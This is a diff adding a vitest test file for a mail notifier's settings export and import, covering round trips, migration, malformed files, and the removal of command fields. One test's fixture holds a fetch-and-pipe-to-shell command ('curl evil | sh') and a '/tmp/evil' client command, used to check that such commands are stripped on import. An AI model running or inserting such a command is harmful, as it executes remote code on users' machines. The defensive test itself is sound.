@@ -1,0 +1,58 @@
+import { describe, expect, it } from 'vitest';
+import { exportSettings, importSettings } from '../../../src/options/settings-file';
+import { DEFAULT_SETTINGS } from '../../../src/storage/settings';
+import { account } from '../../helpers/ui-fixtures';
+
+const settings = { ...DEFAULT_SETTINGS, accounts: [account()], notifications: false };
+
+describe('settings files', () => {
+  it('round-trip: what is exported imports as the same settings', () => {
+    expect(importSettings(exportSettings(settings))).toEqual({ ok: true, settings, withoutCommands: [] });
+  });
+
+  it('never import a command to run: password and mail client commands are left out and named', () => {
+    const risky = account({
+      name: 'Risky',
+      server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
+      desktopClient: { command: ['/tmp/evil'] },
+    });
+    const result = importSettings(
+      exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }),
+    );
+    expect(result.ok).toBe(true);
+    if (!result.ok) return;
+    expect(result.withoutCommands).toEqual(['Risky']);
+    const [imported] = result.settings.accounts;
+    expect(imported?.server.passwordCommand).toBeUndefined();
+    expect(imported?.desktopClient).toEqual({});
+    expect(JSON.stringify(result.settings)).not.toContain('evil');
+  });
+
+  it('say what they are, and hold no password field anywhere', () => {
+    const text = exportSettings(settings);
+    expect(JSON.parse(text)).toMatchObject({ kind: 'popbiff-settings', version: DEFAULT_SETTINGS.version });
+    expect(text).not.toMatch(/password|secret/i);
+  });
+
+  it('from an older Popbiff (version 1) import through the migrations', () => {
+    const old = JSON.stringify({ kind: 'popbiff-settings', version: 1, accounts: [account()], notifications: true });
+    const result = importSettings(old);
+    expect(result.ok && result.settings.accounts).toEqual([account()]);
+    expect(result.ok && result.settings.version).toBe(DEFAULT_SETTINGS.version);
+  });
+
+  it.each([
+    ['not JSON', '{', 'The file is not JSON.'],
+    ['another JSON file', '{"version": 2, "accounts": []}', 'The file is not a Popbiff settings file.'],
+    ['a newer version', '{"kind": "popbiff-settings", "version": 99, "accounts": []}', /newer than this Popbiff/],
+    [
+      'a broken account',
+      '{"kind": "popbiff-settings", "version": 2, "accounts": [{"id": "x"}], "notifications": true, "muteWhenIdle": false, "rules": []}',
+      /accounts/,
+    ],
+  ])('refuse %s, saying why', (_what, text, problem) => {
+    const result = importSettings(text);
+    expect(result.ok).toBe(false);
+    if (!result.ok) expect(result.problem).toMatch(problem);
+  });
+});
